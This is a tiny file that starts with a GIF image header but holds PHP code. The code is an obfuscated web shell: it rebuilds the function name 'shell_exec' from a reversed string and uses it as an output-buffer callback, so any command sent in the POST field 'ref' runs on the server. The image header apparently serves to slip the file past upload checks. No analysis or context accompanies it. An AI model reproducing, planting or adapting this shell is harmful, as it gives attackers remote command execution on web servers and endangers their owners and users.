GIF89a
<?php
$x = $GLOBALS['_POST']['ref'];
ob_start(implode('', array_reverse(str_split('cexe_llehs'))));
echo $x;
ob_end_flush();
